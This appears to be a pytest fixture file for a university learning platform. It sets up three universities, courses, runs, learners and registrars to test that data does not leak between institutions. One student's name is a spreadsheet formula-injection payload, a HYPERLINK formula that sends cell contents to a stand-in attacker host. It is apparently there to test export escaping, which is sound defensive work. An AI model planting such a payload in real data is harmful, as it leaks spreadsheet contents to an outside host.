"""A small world with two universities whose data must never mix, and one that co-teaches.

- A owns `course_a`; B owns `course_b`; C owns `course_c`, co-taught by A.
- `a_student` (home A) takes B's course: A sees it (its student), B sees it (its course).
- `b_student` (home B) takes B's course: B's student in B's course, invisible to A.
- `b_in_a` (home B) takes A's course; `c_in_c` (home C) takes the co-taught course.
"""

from types import SimpleNamespace

import pytest

from learning import services as learning
from tests import factories as f

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def complete(enrollment, course):
    for lesson in f.lessons_of(course):
        learning.lesson_mark_complete(enrollment=enrollment, lesson_key=lesson.translation_key)
    enrollment.refresh_from_db()
    return enrollment


@pytest.fixture
def world(db):
    a = f.UniversityFactory(code="una", name="University A", country="TJ")
    b = f.UniversityFactory(code="unb", name="University B", country="KZ")
    c = f.UniversityFactory(code="unc", name="University C", country="UZ")
    course_a = f.build_course(a, title="Course of A", modules=1, quiz_in_last_lesson=False)
    course_b = f.build_course(b, title="Course of B", modules=1, quiz_in_last_lesson=False)
    course_c = f.build_course(c, title="Co-taught course", modules=1, quiz_in_last_lesson=False)
    course_c.co_teaching_universities.add(a)
    course_c.save_revision().publish()
    run_a = f.open_run(course_a, term="Spring 2026")
    run_b = f.open_run(course_b, term="Spring 2026")
    run_c = f.open_run(course_c, term="Autumn 2026")
    a_student = f.make_member("learner", a, student_number="A-001", full_name=HOSTILE_NAME)
    b_student = f.make_member(
        "learner",
        b,
        student_number="B-SECRET",
        full_name="Secret B Student",
        email="secret.b@example.org",
    )
    b_in_a = f.make_member("learner", b, student_number="B-002", full_name="B learner in A")
    c_in_c = f.make_member("learner", c, student_number="C-001", full_name="C learner")
    e_a_student = learning.enrollment_create(learner=a_student, run=run_b)
    e_b_student = learning.enrollment_create(learner=b_student, run=run_b)
    e_b_in_a = learning.enrollment_create(learner=b_in_a, run=run_a)
    e_c_in_c = learning.enrollment_create(learner=c_in_c, run=run_c)
    complete(e_b_in_a, course_a)
    return SimpleNamespace(
        a=a,
        b=b,
        c=c,
        course_a=course_a,
        course_b=course_b,
        course_c=course_c,
        run_a=run_a,
        run_b=run_b,
        run_c=run_c,
        a_student=a_student,
        b_student=b_student,
        b_in_a=b_in_a,
        c_in_c=c_in_c,
        e_a_student=e_a_student,
        e_b_student=e_b_student,
        e_b_in_a=e_b_in_a,
        e_c_in_c=e_c_in_c,
        registrar_a=f.make_member("registrar", a),
        registrar_b=f.make_member("registrar", b),
    )
